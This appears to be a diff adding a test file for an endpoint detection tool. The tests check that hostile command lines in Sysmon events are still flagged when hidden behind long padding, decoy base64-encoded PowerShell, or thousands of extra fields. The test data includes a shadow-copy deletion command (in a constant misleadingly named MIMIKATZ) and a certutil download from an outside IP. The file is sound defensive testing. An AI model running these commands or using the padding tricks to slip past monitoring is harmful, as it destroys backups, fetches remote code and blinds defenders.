@@ -1,0 +1,89 @@
+/** Command lines and events that are padded: what no bound lets through is said, and is never called benign. */
+import { expect, test } from 'vitest';
+import { assessHosts, checkCommands, createHostWatch } from '../../../analysis/endpoint/index.ts';
+import { normalizeEvent } from '../../../analysis/events/index.ts';
+import { openRecording } from '../../../analysis/recordings/index.ts';
+
+const MIMIKATZ = 'vssadmin.exe delete shadows /all /quiet';
+const encoded = (command: string) => `powershell -enc ${Buffer.from(command, 'utf16le').toString('base64')}`;
+const decoys = (count: number) =>
+  Array.from({ length: count }, (_, index) => `; ${encoded(`Write-Host 'number ${index}'`)}`).join('');
+
+async function assess(event: object) {
+  async function* bytes() {
+    yield await Promise.resolve(Buffer.from(`${JSON.stringify(event)}\n`));
+  }
+  const watch = createHostWatch();
+  const recording = openRecording({ name: 'events.jsonl', bytes: bytes() });
+  for await (const batch of recording.batches) for (const each of batch) watch.note(each);
+  const { sha256, items, items_read, unread } = recording.report();
+  const { result } = await assessHosts(watch, {
+    source: 'events.jsonl',
+    checked: { question: '?', corpus: { sha256, items, items_read } },
+    not_checked: unread.map((gap) => ({ ...gap, mandatory: true })),
+    data_versions: {},
+  });
+  return result;
+}
+const start = (command: string, more: object = {}) => ({
+  Channel: 'Microsoft-Windows-Sysmon/Operational',
+  EventID: 1,
+  Computer: 'WS-042',
+  UtcTime: '2026-11-24 09:12:01.100',
+  ProcessGuid: '{1}',
+  ProcessId: 4,
+  Image: 'C:\\Windows\\System32\\cmd.exe',
+  CommandLine: command,
+  ...more,
+});
+
+test.each([
+  ['behind 70 000 characters', `cmd /c echo ${'A'.repeat(70_000)} & ${MIMIKATZ}`],
+  ['in front of 70 000 characters', `cmd /c ${MIMIKATZ} & echo ${'A'.repeat(70_000)}`],
+  ['behind the first eight encoded texts', `cmd /c rem ${decoys(20)}; ${encoded(MIMIKATZ)}`],
+])('a command is found %s', async (_, command) => {
+  expect(checkCommands([command], undefined)).toMatchObject({ severity: 'critical' });
+  expect(await assess(start(command))).toMatchObject({ severity: 'critical' });
+});
+
+test.each([
+  [
+    'between two times 70 000 characters',
+    `cmd /c echo ${'A'.repeat(70_000)} & ${MIMIKATZ} & echo ${'A'.repeat(70_000)}`,
+  ],
+  ['between encoded texts', `cmd /c rem ${decoys(20)}; ${encoded(MIMIKATZ)} ${decoys(20)}`],
+])('a command that is hidden %s leaves no benign verdict and no whole receipt', async (_, command) => {
+  for (const result of [checkCommands([command], undefined), await assess(start(command))]) {
+    expect(result.verdict).not.toBe('benign');
+    expect(result.checked[0]?.corpus).toMatchObject({ items: 1, items_read: 0 });
+    expect(JSON.stringify(result.not_checked)).toMatch(/command line|command 1/);
+  }
+});
+
+test('an event with more fields than are read counts as unread and is named', async () => {
+  const padding = Object.fromEntries(Array.from({ length: 3_000 }, (_, index) => [`a${index}`, index]));
+  const result = await assess({ eventSource: 'iam.amazonaws.com', ...padding, eventName: 'CreateUser' });
+  expect(result).toMatchObject({ verdict: 'inconclusive', checked: [{ corpus: { items: 1, items_read: 0 } }] });
+  expect(result.not_checked[0]?.why).toBe('it has more fields, values or layers than are read');
+});
+
+test('a grave finding is not crowded out by thousands of lesser ones', async () => {
+  const watch = createHostWatch();
+  const all = [
+    ...Array.from({ length: 2_100 }, (_, index) => ({ command: 'certutil -urlcache -f http://198.51.100.7/a', index })),
+    { command: MIMIKATZ, index: 2_100 },
+  ];
+  for (const { command, index } of all) {
+    const event = normalizeEvent(start(command, { ProcessGuid: `{${index}}` }), `line ${index}`);
+    if (event) watch.note(event);
+  }
+  const { result } = await assessHosts(watch, SEEN);
+  expect(result.findings[0]).toMatchObject({ severity: 'critical' });
+});
+
+const SEEN = {
+  source: 'events',
+  checked: { question: '?', corpus: { sha256: '0'.repeat(64), items: 1, items_read: 1 } },
+  not_checked: [],
+  data_versions: {},
+};
